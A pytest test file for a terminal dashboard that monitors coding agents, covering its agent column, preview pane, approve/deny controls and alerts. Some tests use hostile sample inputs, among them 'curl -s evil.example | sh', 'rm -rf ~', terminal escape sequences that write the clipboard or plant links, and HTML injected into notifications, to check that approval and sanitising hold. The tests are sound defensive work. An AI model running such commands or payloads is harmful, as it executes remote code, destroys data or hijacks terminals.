"""The agents in the dashboard: the Agent column, the needs-you count
and queue, the live preview, approve / deny / send, and the alert when a box turns
needs-you. Against `FakeService` (its agent part: tests/support/tui_fake_agents.py)."""

from __future__ import annotations

import asyncio
import os
import stat
import time
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest
from textual.drivers.headless_driver import HeadlessDriver
from textual.widgets import OptionList, Static
from textual.widgets._footer import FooterKey

from hbtui.core.agents.sessions import ENDED, IDLE, NEEDS_YOU, WORKING
from hbtui.tui.activity import Activity, row_key
from hbtui.tui.agents import panel as agents_panel
from hbtui.tui.agents.alerts import ALERT_MAX, alert_text, notify_send_argv, osc9
from hbtui.tui.agents.dialogs import SendDialog, SessionPicker, StartAgentDialog
from hbtui.tui.agents.preview import PREVIEW_LINES, PREVIEW_WIDTH, screen_text
from hbtui.tui.dialogs.confirm import ConfirmDialog
from hbtui.tui.messages import AgentsWanted
from hbtui.tui.widgets.key_footer import KeyFooter

from support.pilot import make_app, notes, rows, settled, until
from support.tui_fake_agents import session
from support.tui_fakes import FakeService, sample_boxes

SIZE = (160, 45)
SMALL = (80, 24)
ASKS = "Bash: rm -rf build"


def with_agents() -> FakeService:
    """alpha waits for a permission, delta@lab works, gamma cannot be asked, beta is
    stopped (never asked)."""
    service = FakeService()
    service.agent_sessions = {
        ("local", "alpha"): [session("alpha", "s-alpha-1", NEEDS_YOU, waiting_for=ASKS)],
        ("lab", "delta"): [session("delta", "s-delta-1", WORKING, host="lab", ago=125)],
    }
    service.agent_errors = {("local", "gamma"): "hb agents exited with 2"}
    return service


def status_line(app) -> str:
    return str(app.main.query_one("#host-status", Static).render())


async def listed(pilot) -> None:
    await until(pilot, lambda: pilot.app.main.table.row_count == 4, what="4 rows")


# -- the Agent column ------------------------------------------------------------------------


async def test_the_agent_column_shows_each_running_box_and_a_failing_one_says_why():
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "needs-you" in rows(app)["local/alpha"], what="alpha")
        drawn = rows(app)
        assert "Agent" in app.main.table.render_line(0).text.split()
        assert "● needs-you 4s" in drawn["local/alpha"]
        assert "◐ working 2m" in drawn["lab/delta"]
        assert "✗ hb agents exited with 2" in drawn["local/gamma"]
        assert not {"needs-you", "working", "✗"} & set(drawn["local/beta"].split())


async def test_a_box_not_running_has_no_agent_whatever_its_last_stream_said():
    """A box's status stream fails as the box stops (or is branched, or removed): what it
    said last is no news. A stopped box, a box being stopped and a box no longer listed
    get no red ✗ and no Agent column (which took the URL, Image and Age columns' room)."""
    from hbtui.core.agents.sessions import BoxAgents
    from hbtui.tui.messages import AgentsLoaded

    gone = "agent operation failed: connection reset"
    said = [
        BoxAgents("beta", "local", error=gone),  # stopped
        BoxAgents("alpha", "local", error=gone),  # being stopped
        BoxAgents("gone", "local", (session("gone", "s-1", WORKING),)),  # removed
    ]
    service = FakeService()  # beta is stopped

    async def agents(**_kwargs) -> list[BoxAgents]:
        return said

    service.agents.listing = agents  # every ask says the same
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        app.activities.setdefault(("local", "alpha"), Activity(("local", "alpha"))).begin("stop")
        app.main.post_message(AgentsLoaded(said))
        await settled(pilot)
        assert "Agent" not in app.main.table.render_line(0).text.split()
        assert not any("✗" in row for row in rows(app).values())
        assert not app.main.agent_panel.any_agents  # nor the agent keys in the footer


async def test_no_agent_anywhere_leaves_the_table_as_it_was():
    service = FakeService()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: service.agents_calls >= 1, what="the first ask")
        await settled(pilot)
        assert "Agent" not in app.main.table.render_line(0).text.split()


async def test_the_agent_keys_come_into_the_footer_with_the_first_agent():
    service = FakeService()
    app = make_app(service, refresh=60)
    agent_keys = {"a", "v", "A", "D", "m"}
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: service.agents_calls >= 1)
        await settled(pilot)
        assert not agent_keys & {k.key for k in app.main.query(FooterKey)}
        service.agent_sessions = {("local", "alpha"): [session("alpha", "s1", WORKING)]}
        await until(pilot, lambda: agent_keys <= {k.key for k in app.main.query(FooterKey)})
        pinned = app.main.query_one(KeyFooter).query_one("#pinned")
        shown = [k for k in app.main.query(FooterKey) if k.key in agent_keys]
        assert all(k.region.right <= pinned.region.x for k in shown)  # not cut at 160


async def test_the_column_follows_the_agents_without_a_key():
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "needs-you" in rows(app)["local/alpha"])
        service.agent_sessions[("local", "alpha")] = [session("alpha", "s-alpha-1", IDLE, ago=1)]
        await until(pilot, lambda: "○ idle 1s" in rows(app)["local/alpha"], what="idle")


async def test_name_state_and_port_still_show_at_80x24_with_agents():
    boxes = sample_boxes()
    boxes[0] = replace(boxes[0], name="a-rather-long-box-name-of-forty-chars-xx")
    service = FakeService(boxes)
    name = boxes[0].name
    service.agent_sessions = {
        ("local", name): [session(name, "s1", NEEDS_YOU, waiting_for=ASKS * 5)],
    }
    service.agent_errors = {("local", "gamma"): "x" * 200}
    app = make_app(service, refresh=60)
    async with app.run_test(size=SMALL) as pilot:
        await listed(pilot)
        await until(pilot, lambda: service.agents_calls >= 1)
        await until(pilot, lambda: app.main.table.agents)
        table = app.main.table
        for box in boxes:
            line = next(
                table.render_line(y).text
                for y in range(1, 5)
                if table.render_line(y).text.split()[0] == box.name
            )
            assert len(line.rstrip()) <= table.size.width
            assert box.state in line and str(box.port) in line, line


async def test_an_ask_wanted_while_one_is_out_follows_it(monkeypatch):
    """A tick that comes while a slow box keeps the last ask out is not lost."""
    monkeypatch.setattr(agents_panel, "AGENT_SECONDS", 3600)  # no tick: only the asks here
    service = with_agents()
    gate = asyncio.Event()
    ask = service.agents.listing

    async def slow(boxes=None, hosts=None):
        await gate.wait()
        return await ask(boxes, hosts)

    service.agents.listing = slow
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.agents._agents_worker is not None, what="the first ask")
        app.post_message(AgentsWanted())
        await until(pilot, lambda: app.agents._agents_again)
        gate.set()
        await until(pilot, lambda: service.agents_calls == 2, what="the ask after it")


# -- the status line and the needs-you queue --------------------------------------------------


async def test_the_status_line_counts_the_boxes_that_need_you_and_a_goes_to_each():
    service = with_agents()
    service.agent_sessions[("lab", "delta")] = [
        session("delta", "s-delta-1", NEEDS_YOU, host="lab", waiting_for="a question")
    ]
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "2 need you" in status_line(app), what=status_line(app))
        table = app.main.table
        assert table.selected_key() == ("local", "alpha")  # the top row, and it needs you
        await pilot.press("a")
        assert table.selected_key() == ("lab", "delta")
        await pilot.press("a")
        assert table.selected_key() == ("local", "alpha")  # round the end
        service.agent_sessions[("lab", "delta")] = []
        await until(pilot, lambda: "1 needs you" in status_line(app), what=status_line(app))


async def test_remapped_agent_keys_are_the_ones_the_screen_names():
    service = with_agents()
    service.config.keymap = {"next-needs-you": "N", "agent": "V"}
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "(N: next)" in status_line(app), what=status_line(app))
        await pilot.press("down", "N")
        assert app.main.table.selected_key() == ("local", "alpha")
        await pilot.press("V")
        header = app.main.agent_panel.preview.query_one("#agent-header", Static)
        await until(pilot, lambda: "V: back to the log" in str(header.render()))


async def test_a_with_nobody_waiting_says_so_once():
    service = FakeService()
    service.agent_sessions = {("local", "alpha"): [session("alpha", "s1", WORKING)]}
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        await pilot.press("down", "a")
        await until(pilot, lambda: notes(app))
        assert notes(app) == ["agent no agent needs you"]
        assert app.main.table.selected_key() == ("local", "beta")
        assert "need" not in status_line(app)


# -- the preview -----------------------------------------------------------------------------

HOSTILE = (
    "\x1b]0;pwned title\x07\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J\x1b[H"
    "\x1b[31mred text\x1b[0m plain\n\x1b[?1049h\x1b]8;;http://evil/\x07link\x1b]8;;\x07\n"
    "\x1bP+q544e\x1b\\> prompt\n\n\n"
)


def test_the_screen_keeps_colours_and_text_only_and_is_capped():
    drawn = screen_text(HOSTILE)
    assert drawn.plain == "red text plain\nlink\n> prompt"
    assert "\x1b" not in drawn.plain and "\x07" not in drawn.plain
    assert [(span.start, span.end, span.style.color.number) for span in drawn.spans] == [
        (0, 8, 1)  # "red text" in red; no OSC 8 hyperlink on "link"
    ]
    huge = "\n".join(f"line {i} " + "w" * 1000 for i in range(10_000))
    capped = screen_text(huge)
    lines = capped.plain.split("\n")
    assert len(lines) == PREVIEW_LINES and lines[-1].startswith("line 9999 ")
    assert max(len(line) for line in lines) <= PREVIEW_WIDTH


async def test_v_shows_the_selected_boxs_agent_live_and_only_its():
    service = with_agents()
    service.panes = {
        ("local", "alpha", "%1"): HOSTILE,
        ("lab", "delta", "%1"): "delta's screen\n",
    }
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        main = app.main
        await pilot.press("v")
        panel, preview = main.agent_panel, main.agent_panel.preview
        assert panel.display and not main.log_pane.display
        await until(pilot, lambda: "> prompt" in preview.screen_text, what="alpha's screen")
        header = str(preview.query_one("#agent-header", Static).render())
        assert "alpha" in header and "needs-you" in header and ASKS in header
        asks = len(service.pane_asks)
        await until(pilot, lambda: len(service.pane_asks) >= asks + 2, what="live")
        assert set(service.pane_asks) == {("local", "alpha", "%1")}
        main.table.select(("lab", "delta"))
        await until(pilot, lambda: "delta's screen" in preview.screen_text, what="delta's")
        await pilot.press("t")  # the log, as it was
        assert main.log_pane.display and not panel.display
        assert not main.log_pane.workload_visible
        asks = len(service.pane_asks)
        calls = service.agents_calls
        await until(pilot, lambda: service.agents_calls >= calls + 2, timeout=15)
        assert len(service.pane_asks) == asks  # hidden: no capture


async def test_an_agents_change_redraws_only_what_it_changes():
    """Each stream event brings every box's row, one of them new (several a second with
    many boxes): only that box's table row is drawn again, the status line only when the
    count of boxes that need you changes, the preview (and a capture of its pane) only
    when the selected box changed."""
    service = with_agents()
    service.panes = {("local", "alpha", "%1"): "alpha's screen\n"}
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        main, table = app.main, app.main.table
        await pilot.press("v")
        await until(pilot, lambda: "alpha's screen" in main.agent_panel.preview.screen_text)
        assert table.selected_key() == ("local", "alpha")
        drawn: Counter[str] = Counter()

        def counting(name: str, method):
            def counted(*args):
                drawn[args[0] if name == "_put" else name] += 1
                return method(*args)

            return counted

        panel = main.agent_panel
        panel._want_pane = counting("_want_pane", panel._want_pane)
        main._show_status = counting("_show_status", main._show_status)
        table._put = counting("_put", table._put)
        rows = dict(panel.agents)

        def turned(key, status: str) -> None:
            first = rows[key].sessions[0]
            rows[key] = replace(rows[key], sessions=(replace(first, status=status),))
            panel._show_agents(dict(rows))

        turned(("lab", "delta"), IDLE)
        assert drawn == {row_key(("lab", "delta")): 1}
        turned(("local", "alpha"), WORKING)
        assert drawn == {
            row_key(("lab", "delta")): 1,
            row_key(("local", "alpha")): 1,
            "_show_status": 1,  # nobody needs you now
            "_want_pane": 1,  # the selected box changed
        }


async def test_the_status_line_changes_without_a_layout_of_the_screen():
    """The status line is one line whatever it says: a new text repaints it, and lays out
    nothing (a layout of the whole screen at each listing and each ask stalled the UI)."""
    app = make_app(with_agents(), refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "1 needs you" in status_line(app))
        line = app.main.query_one("#host-status", Static)
        layouts: list[bool] = []
        refresh = line.refresh
        line.refresh = lambda *regions, **kwargs: (
            layouts.append(kwargs.get("layout", False)),
            refresh(*regions, **kwargs),
        )[1]
        rows = dict(app.main.agent_panel.agents)
        first = rows[("local", "alpha")].sessions[0]
        rows[("local", "alpha")] = replace(
            rows[("local", "alpha")], sessions=(replace(first, status=WORKING),)
        )
        app.main.agent_panel._show_agents(rows)
        assert "need" not in status_line(app)
        assert layouts == [False]


async def test_a_screen_that_cannot_be_read_says_why_in_the_preview():
    service = with_agents()  # no pane recorded: agent_pane fails
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        await pilot.press("v")
        await until(pilot, lambda: "no pane %1" in app.main.agent_panel.preview.screen_text)


# -- approve, deny, send ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "decision", "word"), [("A", "allow", "approved"), ("D", "deny", "denied")]
)
async def test_approve_and_deny_answer_the_selected_boxs_request(key, decision, word):
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "needs-you" in rows(app)["local/alpha"])
        await pilot.press(key)
        await until(pilot, lambda: any(word in n for n in notes(app)))
        assert service.decided == [("local", "alpha", "s-alpha-1", decision, ASKS)]
        await until(pilot, lambda: "working" in rows(app)["local/alpha"], what="asked again")


async def test_the_command_line_approves_a_named_box():
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        await pilot.press("down", "colon", *"approve alpha", "enter")
        call = ("answer_agent", "alpha", "allow", "local", "s-alpha-1")
        await until(pilot, lambda: call in service.calls)


async def test_nothing_shown_pending_is_one_notification_and_nothing_is_asked():
    """With no request shown for the box, A decides nothing, whatever the box has now."""
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        service.agent_sessions[("lab", "delta")] = [
            session("delta", "s-delta-1", NEEDS_YOU, host="lab", waiting_for="Bash: make")
        ]  # the box asks now, the dashboard has not shown it yet
        app.main.table.select(("lab", "delta"))
        await pilot.press("A")
        await until(pilot, lambda: notes(app))
        assert notes(app) == ["agent nothing is pending in box delta"]
        assert not [c for c in service.calls if c[0] == "answer_agent"]
        assert service.decided == []


async def test_several_waiting_sessions_are_picked_from():
    service = with_agents()
    service.agent_sessions[("local", "alpha")].append(
        session("alpha", "s-alpha-2", NEEDS_YOU, waiting_for="Edit: main.py", ago=2)
    )
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "+1" in rows(app)["local/alpha"])
        await pilot.press("D")
        await until(pilot, lambda: isinstance(app.screen, SessionPicker))
        options = app.screen.query_one(OptionList)
        assert "Edit: main.py" in str(options.get_option_at_index(1).prompt)
        await pilot.press("down", "enter")
        await until(
            pilot, lambda: ("answer_agent", "alpha", "deny", "local", "s-alpha-2") in service.calls
        )
        assert app.screen is app.main


RACED = "session bbbb2222 in alpha now asks for: curl -s evil.example | sh — nothing was decided"


async def test_approve_decides_only_what_was_shown_and_says_what_the_box_asks_now(monkeypatch):
    """The dashboard showed session aaaa1111 asking for `ls -la` (its alert, the preview);
    the box now has session bbbb2222 asking for a curl: A decides nothing, and says so."""
    monkeypatch.setattr(agents_panel, "AGENT_SECONDS", 3600)  # no tick: only the asks here
    service = with_agents()
    alpha = ("local", "alpha")
    service.agent_sessions[alpha] = [session("alpha", "aaaa1111", WORKING)]
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "working" in rows(app)["local/alpha"])
        service.agent_sessions[alpha] = [
            session("alpha", "aaaa1111", NEEDS_YOU, waiting_for="Bash: ls -la", request="a1a1")
        ]
        app.post_message(AgentsWanted())
        await until(pilot, lambda: "agent alpha needs you: Bash: ls -la" in notes(app))
        await pilot.press("v")
        header = app.main.agent_panel.preview.query_one("#agent-header", Static)
        await until(pilot, lambda: "waits for: Bash: ls -la" in str(header.render()))
        curl = "curl -s evil.example | sh"
        service.agent_sessions[alpha] = [
            session("alpha", "bbbb2222", NEEDS_YOU, waiting_for=curl, request="b2b2")
        ]  # what the box says when A asks it
        await pilot.press("A")
        await until(pilot, lambda: any("nothing was decided" in n for n in notes(app)))
        assert notes(app)[-1] == f"agent {RACED}"
        assert service.decided == []
        assert service.agent_sessions[alpha][0].status == NEEDS_YOU


async def test_the_picked_session_is_decided_only_as_the_list_showed_it():
    service = with_agents()
    alpha = ("local", "alpha")
    service.agent_sessions[alpha].append(
        session("alpha", "s-alpha-2", NEEDS_YOU, waiting_for="Edit: main.py", request="e2e2")
    )
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "+1" in rows(app)["local/alpha"])
        await pilot.press("A")
        await until(pilot, lambda: isinstance(app.screen, SessionPicker))
        service.agent_sessions[alpha][1] = session(
            "alpha", "s-alpha-2", NEEDS_YOU, waiting_for="Bash: rm -rf ~", request="f3f3"
        )  # it asked for something else while the list showed
        await pilot.press("down", "enter")
        await until(pilot, lambda: any("nothing was decided" in n for n in notes(app)))
        said = "session s-alpha- in alpha now asks for: Bash: rm -rf ~ — nothing was decided"
        assert notes(app)[-1] == f"agent {said}"
        assert service.decided == []


async def test_m_sends_a_line_to_the_agent():
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        await pilot.press("m")
        await until(pilot, lambda: isinstance(app.screen, SendDialog))
        await pilot.press("enter")  # nothing typed: the dialog says so, stays
        await settled(pilot)
        assert isinstance(app.screen, SendDialog)
        await pilot.press(*"yes, go on", "enter")
        await until(pilot, lambda: app.screen is app.main)
        call = ("send_to_agent", "alpha", "yes, go on", "local", "s-alpha-1")
        await until(pilot, lambda: call in service.calls)
        await until(pilot, lambda: any("sent to claude" in n for n in notes(app)))


# -- a session's life: start, resume, stop, forget -----------------------------------------


async def test_Y_starts_an_agent_from_a_small_dialog():
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        await pilot.press("Y")
        await until(pilot, lambda: isinstance(app.screen, StartAgentDialog))
        await pilot.press(*"fix the build", "enter")
        await until(pilot, lambda: app.screen is app.main)
        call = ("start_agent", "alpha", "claude", "fix the build", "local", False)
        await until(pilot, lambda: call in service.calls)
        await until(
            pilot, lambda: any("claude started on the task in alpha" in n for n in notes(app))
        )


async def test_K_asks_before_it_stops_a_session_that_needs_you_and_stops_it_on_yes():
    service = with_agents()
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "needs-you" in rows(app)["local/alpha"])
        await pilot.press("K")
        await until(pilot, lambda: isinstance(app.screen, ConfirmDialog))
        assert ("stop_agent", "alpha", "local", "s-alpha-1", False) in service.calls
        await pilot.press("n")  # kept: nothing stopped
        await until(pilot, lambda: app.screen is app.main)
        assert service.agent_sessions[("local", "alpha")][0].status == NEEDS_YOU
        await pilot.press("K")
        await until(pilot, lambda: isinstance(app.screen, ConfirmDialog))
        await pilot.press("y")
        call = ("stop_agent", "alpha", "local", "s-alpha-1", True)
        await until(pilot, lambda: call in service.calls)
        await until(pilot, lambda: any("stopped claude session s-alpha-" in n for n in notes(app)))
        assert service.agent_sessions[("local", "alpha")][0].status == ENDED


async def test_an_idle_session_stops_without_asking_then_C_resumes_it_and_X_forgets():
    service = with_agents()
    service.agent_sessions[("local", "alpha")] = [session("alpha", "s-alpha-1", IDLE)]
    app = make_app(service, refresh=60)
    async with app.run_test(size=SIZE) as pilot:
        await listed(pilot)
        await until(pilot, lambda: "idle" in rows(app)["local/alpha"])
        await pilot.press("K")
        await until(pilot, lambda: any("stopped claude session" in n for n in notes(app)))
        assert not isinstance(app.screen, ConfirmDialog)
        await pilot.press("C")
        await until(pilot, lambda: any("resumed session s-alpha-" in n for n in notes(app)))
        assert ("resume_agent", "alpha", "local", None) in service.calls
        assert service.agent_sessions[("local", "alpha")][0].status == IDLE
        service.agent_sessions[("local", "alpha")].append(session("alpha", "s-old", ENDED))
        await pilot.press("X")
        await until(
            pilot, lambda: any("forgot 1 ended session(s) of alpha" in n for n in notes(app))
        )
        assert [s.session_id for s in service.agent_sessions[("local", "alpha")]] == ["s-alpha-1"]


# -- the alert -------------------------------------------------------------------------------


class RecordingDriver(HeadlessDriver):
    """A headless driver that counts as a terminal, and keeps what is written to it."""

    written: list[str]

    @property
    def is_headless(self) -> bool:
        return False

    def write(self, data: str) -> None:
        type(self).written.append(data)


@pytest.fixture
def notify_send(tmp_path, monkeypatch) -> Path:
    """A `notify-send` on PATH that writes each argument it gets on a line of its own."""
    out = tmp_path / "notified"
    script = tmp_path / "bin" / "notify-send"
    script.parent.mkdir()
    script.write_text(f'#!/bin/sh\nfor a in "$@"; do printf "%s\\n" "$a"; done >> {out}\n')
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{script.parent}{os.pathsep}{os.environ['PATH']}")
    return out


@pytest.mark.parametrize(("enabled", "tmux"), [(True, False), (False, False), (True, True)])
async def test_a_box_turning_needs_you_rings_and_notifies(notify_send, monkeypatch, enabled, tmux):
    if tmux:
        monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,123,0")
    else:
        monkeypatch.delenv("TMUX", raising=False)
    service = with_agents()
    service.config.agent_alerts = enabled
    waits = session(
        "delta", "s-delta-1", NEEDS_YOU, host="lab", waiting_for="\x1b]52;c;eA==\x07Bash: ls"
    )
    RecordingDriver.written = []
    app = make_app(service, refresh=60, driver_class=RecordingDriver)
    async with app.run_test(size=SIZE, headless=False) as pilot:
        await listed(pilot)
        await until(pilot, lambda: app.main.table.agents)
        assert not any("needs you" in n for n in notes(app))  # alpha already waited
        service.agent_sessions[("lab", "delta")] = [waits]
        await until(pilot, lambda: any("delta@lab needs you" in n for n in notes(app)))
        toast = next(n for n in notes(app) if "delta" in n)
        assert toast == "agent delta@lab needs you: Bash: ls"
        osc = [w for w in RecordingDriver.written if "]9;" in w]
        if not enabled:
            await settled(pilot)  # the alert is decided as the answer is shown
            assert not osc and not notify_send.exists()
            assert "\x07" not in RecordingDriver.written
            return
        if tmux:  # in tmux's passthrough, its ESCs doubled
            assert osc == ["\x1bPtmux;\x1b\x1b]9;delta@lab needs you: Bash: ls\x07\x1b\\"]
        else:
            assert osc == ["\x1b]9;delta@lab needs you: Bash: ls\x07"]
        assert "\x07" in RecordingDriver.written  # the bell
        await until(pilot, notify_send.exists, what="notify-send ran")
        expected = [
            "--app-name=hbtui",
            "--",
            "hbtui: an agent needs you",
            "delta@lab needs you: Bash: ls",
        ]
        await until(pilot, lambda: notify_send.read_text().splitlines() == expected)


def test_alert_text_is_one_plain_capped_line():
    hostile = session(
        "alpha", "s1", NEEDS_YOU, waiting_for="\x1b]0;title\x07`rm -rf ~`; $(x)\n\r" + "y" * 500
    )
    text = alert_text(hostile)
    assert text.startswith("alpha needs you: `rm -rf ~`; $(x)")
    assert len(text) <= ALERT_MAX and text.isprintable()
    assert osc9("a\x07b\x1b\\c\x1b]9;x\x07", tmux=False) == "\x1b]9;a bc\x07"


def test_notify_send_gets_box_text_with_its_markup_escaped(monkeypatch, tmp_path):
    """A notification server reads the body as markup: a box's `<a href>` is text there."""
    (tmp_path / "notify-send").write_text("#!/bin/sh\n")
    (tmp_path / "notify-send").chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    said = 'Bash: <a href="https://evil.example">https://github.com/org</a> &amp; <img src="x">'
    argv = notify_send_argv(said)
    assert argv is not None and argv[-2:] == [
        "hbtui: an agent needs you",
        'Bash: &lt;a href="https://evil.example"&gt;https://github.com/org&lt;/a&gt; '
        '&amp;amp; &lt;img src="x"&gt;',
    ]


def test_osc9_inside_tmux_goes_through_its_passthrough_with_box_text_filtered(monkeypatch):
    hostile = "web\x1b\\\x1bPtmux;\x1b]52;c;eA==\x07 needs you\x9c\x90x"
    wrapped = osc9(hostile, tmux=True)
    assert wrapped == "\x1bPtmux;\x1b\x1b]9;web needs you x\x07\x1b\\"
    inner = wrapped.removeprefix("\x1bPtmux;").removesuffix("\x1b\\")
    assert inner.replace("\x1b\x1b", "") == "]9;web needs you x\x07"  # no lone ESC inside
    monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,123,0")
    assert osc9("a") == "\x1bPtmux;\x1b\x1b]9;a\x07\x1b\\"
    monkeypatch.setenv("TMUX", "")
    assert osc9("a") == "\x1b]9;a\x07"
    monkeypatch.delenv("TMUX")
    assert osc9("a") == "\x1b]9;a\x07"


# -- snapshots (docs/images/agents-*.png are made from them) ----------------------------------

CLAUDE_ASKS = "\n".join(
    [
        "\x1b[38;5;174m✻\x1b[0m Welcome to \x1b[1mClaude Code\x1b[0m",
        "",
        "\x1b[2m>\x1b[0m add left-pad and use it in src/pad.js",
        "",
        "\x1b[38;5;174m⏺\x1b[0m I'll install the dependency first.",
        "",
        "\x1b[38;5;174m╭──────────────────────────────────────────────────────────────╮\x1b[0m",
        "\x1b[38;5;174m│\x1b[0m \x1b[1mBash command\x1b[0m"
        "                                                 \x1b[38;5;174m│\x1b[0m",
        "\x1b[38;5;174m│\x1b[0m   npm install left-pad"
        "                                       \x1b[38;5;174m│\x1b[0m",
        "\x1b[38;5;174m│\x1b[0m   \x1b[2mInstall the dependency\x1b[0m"
        "                                     \x1b[38;5;174m│\x1b[0m",
        "\x1b[38;5;174m│\x1b[0m Do you want to proceed?"
        "                                      \x1b[38;5;174m│\x1b[0m",
        "\x1b[38;5;174m│\x1b[0m \x1b[36m❯ 1. Yes\x1b[0m"
        "                                                     \x1b[38;5;174m│\x1b[0m",
        "\x1b[38;5;174m│\x1b[0m   2. Yes, and don't ask again for npm install commands"
        "       \x1b[38;5;174m│\x1b[0m",
        "\x1b[38;5;174m│\x1b[0m   3. No, and tell Claude what to do differently \x1b[2m(esc)\x1b[0m"
        "        \x1b[38;5;174m│\x1b[0m",
        "\x1b[38;5;174m╰──────────────────────────────────────────────────────────────╯\x1b[0m",
    ]
)


def docs_service() -> FakeService:
    service = with_agents()
    asks = "Bash: npm install left-pad"
    service.agent_sessions[("local", "alpha")] = [
        session("alpha", "bfc12cc9", NEEDS_YOU, waiting_for=asks)
    ]
    service.panes[("local", "alpha", "%1")] = CLAUDE_ASKS
    return service


@pytest.fixture
def utc(monkeypatch):
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


async def agents_shown(pilot) -> None:
    await until(pilot, lambda: pilot.app.main.table.agents)
    await settled(pilot)


@pytest.mark.parametrize("scene", ["column", "preview", "approved"])
def test_agents_snapshot(snap_compare, utc, scene):
    app = make_app(docs_service(), refresh=60)

    async def run_before(pilot):
        await agents_shown(pilot)
        if scene != "column":
            await pilot.press("v")
            await until(pilot, lambda: "Bash command" in app.main.agent_panel.preview.screen_text)
        if scene == "approved":
            await pilot.press("A")
            await until(pilot, lambda: "working" in rows(app)["local/alpha"])
            await until(
                pilot, lambda: "approved" in app.main.agent_panel.preview.screen_text or notes(app)
            )
        await settled(pilot)

    assert snap_compare(app, terminal_size=SIZE, run_before=run_before)


async def test_the_selected_box_s_agent_keys_lead_the_footer_at_120_columns():
    """At 120 columns the footer ended at `v A`: Deny and Send never showed. With the
    selected box's agent, its keys come first, all of them before the pinned keys; a box
    without an agent leaves the footer in its own order."""
    service = FakeService()
    service.agent_sessions = {("local", "alpha"): [session("alpha", "s1", NEEDS_YOU)]}
    app = make_app(service, refresh=60)
    agent_keys = ["a", "v", "A", "D", "m"]
    async with app.run_test(size=(120, 40)) as pilot:
        await listed(pilot)
        app.main.table.select(("local", "alpha"))
        footer = app.main.query_one(KeyFooter)

        def order() -> list[str]:
            return [k.key for k in footer.query(FooterKey) if k.parent is footer]

        await until(pilot, lambda: order()[:5] == agent_keys, what=lambda: order())
        await settled(pilot)
        pinned = footer.query_one("#pinned")
        shown = [k for k in footer.query(FooterKey) if k.key in agent_keys]
        assert len(shown) == 5 and all(k.region.right <= pinned.region.x for k in shown)
        app.main.table.select(("local", "beta"))  # stopped: no agent
        await until(pilot, lambda: order()[:1] == ["enter"], what=lambda: order())
